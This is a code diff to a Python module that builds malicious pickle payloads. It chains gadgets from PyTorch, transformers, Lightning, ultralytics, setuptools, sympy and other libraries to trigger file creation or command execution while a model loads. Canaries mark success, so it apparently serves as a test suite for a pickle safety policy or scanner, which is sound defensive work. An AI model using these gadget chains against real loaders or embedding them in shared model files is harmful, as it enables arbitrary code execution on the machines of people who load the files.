@@ -111,6 +111,20 @@ def with_anything(canary: str) -> bytes:
     return refilled(FROM_TYPE, harmless, LOAD, PARAMETER, items(blob(evil(canary))))
 
 
+TOUCH = call(name("builtins", "getattr"), name("pathlib", "Path"), text("touch"))
+
+
+def path_object(canary: str) -> bytes:
+    return call(name("pathlib", "PosixPath"), text(canary))
+
+
+def alias(module: str, qualified: str) -> bytes:
+    """``Popen[int]``: a form of ``typing`` that calls the class when it is called."""
+    return call(name("types", "GenericAlias"), name(module, qualified), name("builtins", "int"))
+
+
+OPENING = alias("logging", "FileHandler")  # called with a path, it creates the file
+
 # --- A1: methods looked up on the instance --------------------------------------------------------
 
 META = call(
@@ -154,21 +168,20 @@ TRIGGERS: Mapping[str, tuple[str, Builder, Builder]] = {
     "add": ("add", lambda _: LOAD, lambda canary: MARK + blob(evil(canary)) + ADDITEMS),
     "setstate": ("__setstate__", lambda _: LOAD, lambda canary: blob(evil(canary)) + BUILD),
     "setstate_partial": ("__setstate__", with_anything, lambda _: EMPTY_DICT + BUILD),
+    "append_method": ("append", lambda _: TOUCH, lambda canary: path_object(canary) + APPEND),
+    "append_alias": ("append", lambda _: OPENING, lambda canary: text(canary) + APPEND),
+    "add_alias": ("add", lambda _: OPENING, lambda canary: MARK + text(canary) + ADDITEMS),
+    "setstate_method": ("__setstate__", lambda _: TOUCH, lambda canary: path_object(canary) + BUILD),
+    "setstate_alias": ("__setstate__", lambda _: OPENING, lambda canary: text(canary) + BUILD),
 }
-OWN_METHOD = {  # carriers whose type has the method: the unpickler finds that one
-    **dict.fromkeys(("layer", "trainer_layer", "metric", "parameter"), ("setstate", "setstate_partial")),
-    "counter": (),
-    "typed_storage": (),
-}
+OWN_METHOD = ("layer", "trainer_layer", "metric", "parameter")  # whose type has ``__setstate__``, which is found first
 
 
 def instance_methods() -> Iterator[tuple[str, Attack]]:
     for carrier, made in CARRIERS.items():
         for trigger, (method, weapon, fire) in TRIGGERS.items():
-            if trigger in OWN_METHOD.get(carrier, ()):
-                continue
-
-            yield f"{trigger}_of_{carrier}", Attack("A1", zipped(partial(fired, made, method, weapon, fire)))
+            if method != "__setstate__" or carrier not in OWN_METHOD:
+                yield f"{trigger}_of_{carrier}", Attack("A1", zipped(partial(fired, made, method, weapon, fire)))
 
 
 def fired(made: bytes, method: str, weapon: Builder, fire: Builder, canary: str) -> bytes:
@@ -269,8 +282,7 @@ def in_container(canary: str) -> bytes:
 
 def by_attribute(canary: str) -> bytes:
     """A method fetched from a class stands under the name."""
-    touching = call(name("builtins", "getattr"), name("pathlib", "Path"), text("touch"))
-    return armed("append", touching) + call(name("pathlib", "PosixPath"), text(canary)) + APPEND
+    return armed("append", TOUCH) + path_object(canary) + APPEND
 
 
 def namespace_arguments(canary: str) -> bytes:
@@ -290,11 +302,6 @@ def setstate_calls_setstate(canary: str) -> bytes:
     """``__setstate__`` is ``partial`` itself, which makes nothing run, and then the loader of bytes."""
     made = CARRIERS["namespace"] + mapping(__setstate__=LOAD) + BUILD
     return made + blob(evil(canary)) + BUILD
-
-
-def class_under_method(module: str, qualified: str, *arguments: bytes) -> Builder:
-    """A class under ``append``: APPEND runs its constructor with one argument."""
-    return zipped(lambda canary: armed("append", name(module, qualified)) + b"".join(arguments) + APPEND)
 
 
 def from_type_state(canary: str) -> bytes:
@@ -403,8 +410,7 @@ def forty(canary: str) -> bytes:
 
 def latin(canary: str) -> bytes:
     """The same in protocol 2 spelling, the bytes as text."""
-    load = name("torch.storage", "_load_from_bytes")
-    return armed("__setstate__", load) + latin1(evil(canary)) + BUILD
+    return armed("__setstate__", LOAD) + latin1(evil(canary)) + BUILD
 
 
 FORMATS: Mapping[str, Attack] = {
@@ -449,14 +455,11 @@ def asked(method: str, function: Callable[[bytes], bytes], carrier: str = "names
     return Attack("A1", zipped(lambda canary: function(armed(method, without_arguments(canary), carrier))))
 
 
-def known(
-    module: str, qualified: str, before: tuple[bytes, ...] = (), after: tuple[bytes, ...] = ()
-) -> Callable[[bytes], bytes]:
-    return lambda argument: call(name(module, qualified), *before, argument, *after)
+def known(module: str, qualified: str, after: tuple[bytes, ...] = ()) -> Callable[[bytes], bytes]:
+    return lambda argument: call(name(module, qualified), argument, *after)
 
 
 SEQUENTIAL = name("torch.nn.modules.container", "Sequential") + EMPTY_TUPLE + NEWOBJ
-MODULE_DICT = name("torch.nn.modules.container", "ModuleDict") + EMPTY_TUPLE + NEWOBJ
 
 
 def sequence_over(weapon: bytes) -> bytes:
@@ -739,12 +742,11 @@ READERS: Mapping[str, Attack] = {
 # --- A5: functions under other packages' names ------------------------------------------------------
 
 
-def calling(
-    module: str, qualified: str, *arguments: Callable[[str], bytes], spelled: Callable[[str, str], bytes] = name
-) -> Attack:
+def calling(module: str, qualified: str, *arguments: Builder) -> Attack:
+    """A function or class called under the name of a package that brings it along."""
     return Attack(
         "A5",
-        zipped(lambda canary: call(spelled(module, qualified), *(argument(canary) for argument in arguments))),
+        zipped(lambda canary: call(name(module, qualified), *(argument(canary) for argument in arguments))),
     )
 
 
@@ -825,12 +827,9 @@ def stated(module: str, qualified: str, state: Builder) -> Attack:
     return Attack("A2", zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD))
 
 
-def made(module: str, qualified: str, *arguments: Builder, opcode: bytes = NEWOBJ) -> Attack:
-    """A class of a known trainer whose ``__new__`` asks its arguments for methods."""
-    return Attack(
-        "A2",
-        zipped(lambda canary: name(module, qualified) + items(*(argument(canary) for argument in arguments)) + opcode),
-    )
+def made(module: str, qualified: str, argument: Builder) -> Attack:
+    """A class of a known trainer whose ``__new__`` asks its argument for methods."""
+    return Attack("A2", zipped(lambda canary: name(module, qualified) + items(argument(canary)) + NEWOBJ))
 
 
 def with_two(canary: str) -> bytes:
@@ -914,49 +913,44 @@ def yolo(**state: Builder) -> Builder:
     return build
 
 
-def dropped(module: str, qualified: str, state: Builder) -> Attack:
-    """A class whose ``__del__`` asks what it keeps: it runs when the object is thrown away."""
-    return stated(module, qualified, state)
-
-
 STRATEGY = name("lightning.pytorch.strategies.single_device", "SingleDeviceStrategy") + EMPTY_TUPLE + NEWOBJ
 FINALIZERS: Mapping[str, Attack] = {
-    "finalizer_of_callback": dropped(
+    "finalizer_of_callback": stated(
         "transformers.integrations.integration_utils",
         "NeptuneCallback",
         lambda canary: mapping(_volatile_checkpoints_dir=NONE, _run=armed("stop", without_arguments(canary))),
     ),
-    "finalizer_of_mlflow": dropped(
+    "finalizer_of_mlflow": stated(
         "transformers.integrations.integration_utils",
         "MLflowCallback",
         lambda canary: mapping(_auto_end_run=TRUE, _ml_flow=armed("active_run", without_arguments(canary))),
     ),
-    "finalizer_of_profiler": dropped(
+    "finalizer_of_profiler": stated(
         "lightning.pytorch.profilers.simple",
         "SimpleProfiler",
         lambda canary: mapping(_stage=NONE, _write_stream=NONE, _output_file=armed("close", without_arguments(canary))),
     ),
-    "finalizer_of_summary": dropped(
+    "finalizer_of_summary": stated(
         "lightning.pytorch.utilities.model_summary.model_summary",
         "LayerSummary",
         lambda canary: mapping(_hook_handle=armed("remove", without_arguments(canary))),
     ),
-    "finalizer_of_summary_method": dropped(
+    "finalizer_of_summary_method": stated(
         "lightning.pytorch.utilities.model_summary.model_summary",
         "LayerSummary",
         lambda canary: mapping(detach_hook=without_arguments(canary)),
     ),
-    "finalizer_of_backend": dropped(
+    "finalizer_of_backend": stated(
         "ultralytics.nn.backends.ascend",
         "AscendBackend",
         lambda canary: mapping(model=armed("free_resource", without_arguments(canary))),
     ),
-    "finalizer_of_other_backend": dropped(
+    "finalizer_of_other_backend": stated(
         "ultralytics.nn.backends.hailo",
         "HailoBackend",
         lambda canary: mapping(_stack=armed("close", without_arguments(canary))),
     ),
-    "finalizer_of_graphs": dropped(
+    "finalizer_of_graphs": stated(
         "transformers.generation.continuous_batching.utils",
         "CudaGraphBuffer",
         lambda canary: mapping(_storage=armed("popitem", without_arguments(canary))),
@@ -1003,21 +997,6 @@ FINALIZERS: Mapping[str, Attack] = {
             teacher_feats_idx=EMPTY_LIST,
             teacher_model=NONE,
             _register_feature_hooks=without_arguments(canary),
-        ),
-    ),
-    "hash_of_generation": Attack(
-        "A1",
-        zipped(
-            lambda canary: (
-                EMPTY_DICT
-                + name("transformers.generation.configuration_utils", "GenerationConfig")
-                + EMPTY_TUPLE
-                + NEWOBJ
-                + mapping(to_json_string=without_arguments(canary))
-                + BUILD
-                + NONE
-                + SETITEM
-            )
         ),
     ),
     "hash_of_metric": Attack(
@@ -1130,11 +1109,6 @@ PACKAGES: Mapping[str, Attack] = {
 # --- what the policy allows, put together ------------------------------------------------------------
 
 
-def alias(module: str, qualified: str) -> bytes:
-    """``Popen[int]``: a form of ``typing`` that calls the class when it is called."""
-    return call(name("types", "GenericAlias"), name(module, qualified), name("builtins", "int"))
-
-
 def built(module: str, qualified: str, **state: bytes) -> bytes:
     return name(module, qualified) + EMPTY_TUPLE + NEWOBJ + mapping(**state) + BUILD
 
@@ -1234,19 +1208,6 @@ TOGETHER: Mapping[str, Attack] = {
             )
         ),
     ),
-    "metric_wraps_alias": Attack(
-        "A2",
-        zipped(
-            lambda canary: built(
-                "torchmetrics.classification.accuracy",
-                "MulticlassAccuracy",
-                _modules=EMPTY_DICT,
-                _parameters=EMPTY_DICT,
-                _buffers=EMPTY_DICT,
-                _wrap_update=constructing(canary),
-            )
-        ),
-    ),
     "loader_shuts_down": Attack(
         "A2",
         zipped(
@@ -1276,14 +1237,6 @@ TOGETHER: Mapping[str, Attack] = {
                 "transformers",
                 "RoFormerTokenizer",
                 _tokenizer=CARRIERS["namespace"] + mapping(get_vocab=constructing(canary)) + BUILD,
-            )
-        ),
-    ),
-    "optimizer_patches_loading": Attack(
-        "A2",
-        zipped(
-            lambda canary: built(
-                "torch.optim.sgd", "SGD", defaults=EMPTY_DICT, _patch_step_function=with_anything(canary)
             )
         ),
     ),
@@ -1361,5 +1314,18 @@ ATTACKS: Mapping[str, Attack] = {
     **READERS,
     **PACKAGES,
     **TOGETHER,
+    "fonttools_writer": calling("fontTools.misc.xmlWriter", "XMLWriter", path),
+    "fsspec_opener": calling("fsspec.implementations.local", "LocalFileOpener", path, just(text("wb"))),
+    "pillow_parser": calling(
+        "PIL.PdfParser", "PdfParser", path, just(NONE), just(NONE), just(integer(0)), just(text("w+b"))
+    ),
+    "igzip_file": calling("isal.igzip", "IGzipFile", path, just(text("wb"))),
+    "networkx_write": calling(
+        "networkx", "write_adjlist", just(name("networkx", "Graph") + EMPTY_TUPLE + REDUCE), path
+    ),
+    "setuptools_spawn": calling("setuptools._distutils.spawn", "spawn", words),
+    "numpy_savetxt": calling("numpy", "savetxt", path, just(listed(integer(1)))),
+    "sympy_parse": calling("sympy.parsing.sympy_parser", "parse_expr", expression),
+    "torch_mmap": calling("torch", "from_file", path, just(TRUE), just(integer(4))),
     "method_type_as_keys": Attack("A5", zipped(method_called)),
 }
